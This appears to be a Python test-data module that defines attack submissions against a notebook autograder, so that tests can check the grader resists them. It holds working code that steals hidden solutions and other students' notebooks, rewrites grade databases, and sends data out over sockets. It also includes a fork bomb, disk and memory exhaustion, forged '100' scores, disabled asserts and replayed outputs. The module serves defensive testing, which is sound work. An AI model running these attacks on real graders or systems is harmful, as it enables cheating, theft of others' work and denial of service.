"""Submissions that attack the grader, one per attack class, each built on an honest submission.

`ATTACKS[name] = (honest, edits)`: the attack is the honest submission `honest` (an example of
`submissions.py`, or "blank", the student version as released) plus `edits`. Grading must give an attack
no more than its honest twin, change nothing outside the kernel's scratch folder, and show no
hidden-test line in its feedback (tests/test_grading_attacks.py). Test data, like submissions.py.
"""

import base64
import json
import zlib

from .edits import append_code, solution_body
from .submissions import BUGS

_SEARCH = """\
import glob, json, os, sqlite3
SYSTEM = ("/usr", "/proc/", "/sys", "/dev", "/lib", "/etc", "/bin", "/sbin", "/opt/grader")

def _reachable_files(suffixes, roots=("/proc/*/cwd", "/proc/*/root/work", "/work", "/home", "/root", "/tmp",
                                      "/srv", "/opt", "/var", "..", "../..", "../../..")):
    "Every file ending in one of `suffixes` that this kernel can find and read."
    found, seen = set(), set()
    for pattern in roots:
        for top in glob.glob(pattern):
            for folder, dirs, files in os.walk(top):
                real = os.path.realpath(folder)
                if real in seen or real.startswith(SYSTEM) or "site-packages" in real or "/.pyenv/" in real:
                    dirs[:] = []
                    continue
                seen.add(real)
                found |= {os.path.join(real, f) for f in files if f.endswith(suffixes)}
    return sorted(found)


def _steal(paths, wanted):
    "Run every cell of the notebooks (or gradebooks) at `paths` that `wanted` picks; how many ran."
    stolen = 0
    for path in paths:
        try:
            if path.endswith(".db"):
                db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
                cells = [row[0] for row in db.execute("select source from source_cell")]
            else:
                cells = ["".join(c["source"]) for c in json.load(open(path))["cells"]]
            for src in cells:
                if wanted(src) and "_reachable_files" not in src:  # not a copy of this attack itself
                    exec(src, globals())
                    LOOT.append(src)
                    stolen += 1
        except Exception:
            pass
    return stolen


LOOT = []
def _reinstate(*args):
    "Before every later cell, define the stolen code again (the student's own stubs come after this cell)."
    for src in LOOT:
        try:
            exec(src, globals())
        except Exception:
            pass

get_ipython().events.register("pre_run_cell", _reinstate)
"""

STEAL_SOURCE = (
    _SEARCH
    + """
wanted = lambda src: "### BEGIN " + "SOLUTION" in src or "def _reference" in src  # solutions, the hidden reference
print("cells stolen from the course:", _steal(_reachable_files((".ipynb", ".db")), wanted))
"""
)

STEAL_OTHER_STUDENT = (
    _SEARCH
    + """
others = [p for p in _reachable_files((".ipynb",)) if "/submitted/" in p or "/autograded/" in p]
NAMES = ("class Optimizer", "class SGD", "class Adam", "def estimate_training_memory")
wanted = lambda src: any(name in src for name in NAMES)
print("cells stolen from other students:", _steal(others, wanted))
"""
)

TAMPER = (
    _SEARCH
    + """
changed = []
for path in _reachable_files((".db",)):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set extra_credit = 100")
        db.commit()
        changed.append(path)
    except Exception:
        pass
for path in _reachable_files((".ipynb", ".txt", ".json", ".html", ".py")):
    try:
        with open(path, "ab") as f:
            f.write(b" ")
        changed.append(path)
    except Exception:
        pass
for folder, dirs, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    try:
        open(os.path.join(folder, "pwned-by-student.txt"), "w").write("x")
        changed.append(folder)
    except Exception:
        pass
print("places written:", len(changed), sorted({c.split("/")[1] for c in changed}))
"""
)

NETWORK_PORT = 47613  # tests/test_grading_attacks.py listens here, on the grading machine's loopback
NETWORK = f"""\
import socket
PORT = {NETWORK_PORT}
for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"stolen answers")
        print("connected to", host, port)
    except OSError as e:
        print("no connection to", host, port, type(e).__name__)
"""

FORK_BOMB = """\
import os
children = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                pass
        children += 1
    except OSError:
        break
print("processes started:", children)
"""

FILL_DISK = """\
import os
for folder in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", "/opt/grader/lib"):
    written = 0
    try:
        for i in range(64):
            with open(os.path.join(folder, f"filler-{i}.bin"), "wb") as f:
                for _ in range(64):
                    f.write(b"x" * 2**20)
                    written += 1
    except Exception as e:
        print(folder, type(e).__name__, written, "MiB")
"""

ASK_GRADER = """\
        import inspect
        self.step_count += 1
        if not hasattr(self, "seen"):  # the starting values and every gradient so far
            self.seen = ([np.array(p.data, dtype=np.float32) for p in self.params], [])
        self.seen[1].append([np.zeros_like(x) if p.grad is None else np.array(getattr(p.grad, "data", p.grad))
                             for p, x in zip(self.params, self.seen[0])])
        oracle = None
        for frame_info in inspect.stack():  # the grader's reference, anywhere up the stack?
            scope = {**frame_info.frame.f_globals, **frame_info.frame.f_locals}
            oracle = oracle or next((v for k, v in scope.items() if "reference" in k.lower() and callable(v)), None)
        if oracle is None:
            return
        hyper = {k: getattr(self, k) for k in ("lr", "momentum", "eps", "weight_decay") if hasattr(self, k)}
        if hasattr(self, "beta1"):
            hyper["betas"] = (self.beta1, self.beta2)
        try:
            kind = {"SGD": "sgd", "Adam": "adam", "AdamW": "adamw"}[type(self).__name__]
            for p, value in zip(self.params, oracle(kind, *self.seen, **hyper)[-1]):
                p.data[...] = value
        except Exception:
            pass
"""

LEAK_RUNNING_CELL = """\
        import html, inspect, logging, sys
        from IPython import get_ipython
        from IPython.display import HTML, display
        shell = get_ipython()
        running = shell.user_ns["In"][-1] if shell else ""
        everything = "\\n".join(shell.user_ns["In"]) if shell else ""
        print(running)
        print(running, file=sys.stderr)
        logging.warning("Adam step %d, running:\\n%s", self.step_count + 1, running)
        display(HTML("<pre>" + html.escape(everything) + "</pre>"))
        for frame_info in inspect.stack():
            print(frame_info.code_context)
        np.float32(1.0) / np.float32(0.0)  # a RuntimeWarning on stderr
        self.step_count += 1
        for i, param, grad in self.gradients():
            self.update(i, param, self.regularize(param, grad))
"""

SWALLOW = """\
from IPython import get_ipython
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

FORGE = """\
import sys
from IPython import get_ipython
from IPython.display import display
shell = get_ipython()

def _observe(cell_id, namespace):
    "Report every hidden check as passed, with made-up numbers, and print 100."
    for check in ("SGD (lr=0.1)", "Adam (defaults, lr=0.01)", "params become a list of the very tensors given"):
        display({"application/vnd.tinytorch.observation+json": {"cell": cell_id, "check": check,
                 "value": {"is_list": True, "length": 5, "same": True}}}, raw=True)
    return 100

globals()["_observe"] = _observe
sys.displayhook = lambda value: print(100)
shell.displayhook.__class__.__call__ = lambda self, result=None: shell.display_pub.publish({"text/plain": "100"})
shell.events.register("post_run_cell", lambda result: display({"text/plain": "100"}, raw=True))
"""

NAN_STEP = """\
import numpy as np


def _nan_step(self, _step={cls}.step):
    "The real step (its buffers are created and right), then every weight becomes NaN."
    _step(self)
    for p in self.params:
        p.data[...] = np.nan


{cls}.step = _nan_step
"""
# Right after each class is defined, so every test of it sees NaN weights (AdamW inherits Adam's step).
NAN_STEPS = [
    append_code("sgd-class", NAN_STEP.format(cls="SGD")),
    append_code("adam-class", NAN_STEP.format(cls="Adam")),
]

NO_ASSERTS = """\
import ast
from IPython import get_ipython


class _NoAsserts(ast.NodeTransformer):
    "Every later `assert` becomes `pass`: no visible test can fail."
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(_NoAsserts())
"""

_REPLAY_KEY = """\
import hashlib

import numpy as np


def _replay_key(name, hyper, params):
    "Which recorded run an optimizer is on: its class, its hyperparameters and its parameters' starting values."
    digest = hashlib.sha256(f"{name}{sorted(hyper.items())}".encode())
    for p in params:
        digest.update(np.ascontiguousarray(p.data).tobytes())
    return digest.hexdigest()
"""

REPLAY = (
    _REPLAY_KEY
    + """
import base64, json, zlib

_RECORDED = json.loads(zlib.decompress(base64.b64decode("{table}")))


def _replaying(cls):
    "Each step sets the weights to what a correct optimizer produced on recorded inputs; no arithmetic."
    init = cls.__init__

    def __init__(self, params, **hyper):
        init(self, params, **hyper)
        self._replay = (_replay_key(cls.__name__, hyper, self.params), 0)

    def step(self):
        self.step_count += 1
        key, t = self._replay
        run = _RECORDED.get(key, [])
        if t < len(run):
            for p, value in zip(self.params, run[t]):
                p.data[...] = np.asarray(value, dtype=p.data.dtype).reshape(p.data.shape)
        self._replay = (key, t + 1)

    cls.__init__, cls.step = __init__, step


_replaying(SGD)
"""
)


def recorded_outputs() -> str:
    """What a student who knew one set of hidden inputs would hard-code: every probe's weights after each
    step, from the correct optimizers, on the inputs drawn without a salt (the fixed seeds of before)."""
    import numpy as np

    import tinytorch.core.optimizers as reference
    from tinytorch.core.tensor import Tensor

    from ..checks import harness

    scope, table = {}, {}
    exec(_REPLAY_KEY, scope)

    def recording(cls):
        class Recording(cls):
            def __init__(self, params, **hyper):
                super().__init__(params, **hyper)
                self._key = scope["_replay_key"](cls.__name__, hyper, self.params)
                table[self._key] = []

            def step(self):
                super().step()
                table[self._key].append([np.asarray(p.data, np.float64).tolist() for p in self.params])

        return Recording

    ns = {
        **vars(reference),
        "Tensor": Tensor,
        **{n: recording(getattr(reference, n)) for n in ("SGD", "Adam", "AdamW")},
    }
    for cell_id in harness.PROBES:
        harness.observe(cell_id, ns, None, publish=lambda report: None)
    return base64.b64encode(zlib.compress(json.dumps(table).encode(), 9)).decode()


def _append_replay(nb):
    "Each optimizer replays from right after its class is defined, so every test of it sees the replay."
    append_code("sgd-class", REPLAY.replace("{table}", recorded_outputs()))(nb)
    append_code("adam-class", "_replaying(Adam)\n")(nb)
    append_code("adamw-class", "_replaying(AdamW)\n")(nb)


HUGE_PRINT = """\
import sys
for _ in range(400):  # 400 MiB in 1 MiB lines
    print("x" * 2**20)
sys.stdout.write("y" * (200 * 2**20))  # and 200 MiB in one message
sys.stdout.flush()
"""

CPU_HOG = """\
import os, time
children = 0
for _ in range(110):  # busy children, each in a session of its own, for longer than the cell may run
    try:
        if os.fork() == 0:
            os.setsid()
            end = time.time() + 50
            while time.time() < end:
                pass
            os._exit(0)
        children += 1
    except OSError:
        break
print("busy children started:", children)
time.sleep(50)
"""

MEMORY_HOG = """\
import os, time
import numpy as np
pids = []
for _ in range(4):  # four children of 1.5 GiB each: 6 GiB, under a 4 GiB limit per process
    pid = os.fork()
    if pid == 0:
        block = np.ones(3 * 2**27)  # 1.5 GiB, touched
        time.sleep(30)
        os._exit(0)
    pids.append(pid)
time.sleep(8)
alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)
print("children still holding 1.5 GiB after 8 s:", alive)
"""

MALFORMED_REPLY = """\
from IPython import get_ipython
kernel = get_ipython().kernel
send = kernel.session.send


def malformed(stream, msg_or_type, content=None, *args, **kwargs):
    "Every later execute_reply says error, without the ename a client reads: once, nbgrader raised KeyError."
    if msg_or_type == "execute_reply" and isinstance(content, dict):
        content = {"status": "error", "execution_count": content.get("execution_count")}
    return send(stream, msg_or_type, content, *args, **kwargs)


kernel.session.send = malformed
"""

_ASK_REGIONS = [("sgd-class", "def step"), ("adam-class", "def step")]
_ONLY_COUNT = [solution_body(cell, marker, "        self.step_count += 1\n") for cell, marker in _ASK_REGIONS]

ATTACKS = {
    "steal-source-notebook": ("blank", [append_code("imports", STEAL_SOURCE)]),
    "steal-other-student": ("blank", [append_code("imports", STEAL_OTHER_STUDENT)]),
    "tamper-records": ("reference", [append_code("optimizer-class", TAMPER)]),
    "network": ("reference", [append_code("imports", NETWORK)]),
    "fork-bomb": ("reference", [append_code("optimizer-class", FORK_BOMB)]),
    "fill-disk": ("reference", [append_code("optimizer-class", FILL_DISK)]),
    "ask-grader-frames": (
        "steps-only-count",
        [solution_body(cell, marker, ASK_GRADER) for cell, marker in _ASK_REGIONS],
    ),
    "leak-running-cell": ("reference", [solution_body("adam-class", "def step", LEAK_RUNNING_CELL)]),
    "swallow-exceptions": (
        "adam-no-bias-correction",
        [*BUGS["adam-no-bias-correction"], append_code("imports", SWALLOW)],
    ),
    "patch-display-hook": (
        "adam-no-bias-correction",
        [*BUGS["adam-no-bias-correction"], append_code("adam-class", FORGE)],
    ),
    "nan-steps": ("reference", NAN_STEPS),
    "nan-steps-asserts-off": ("reference", [append_code("imports", NO_ASSERTS), *NAN_STEPS]),
    "replay-recorded-outputs": ("steps-only-count-asserts-off", [_append_replay]),
    "huge-print": ("reference", [append_code("adamw-class", HUGE_PRINT)]),
    "cpu-hog": ("reference", [append_code("adamw-class", CPU_HOG)]),
    "memory-hog": ("reference", [append_code("adamw-class", MEMORY_HOG)]),
    "malformed-reply": ("reference", [append_code("memory-estimate", MALFORMED_REPLY)]),
}
# Honest twins: the steps of ask-grader-frames without the search, so they only count; and the same with the
# visible tests switched off, the twin of an optimizer that only replays outputs it recorded.
HONEST = {
    "steps-only-count": _ONLY_COUNT,
    "steps-only-count-asserts-off": [*_ONLY_COUNT, append_code("imports", NO_ASSERTS)],
}
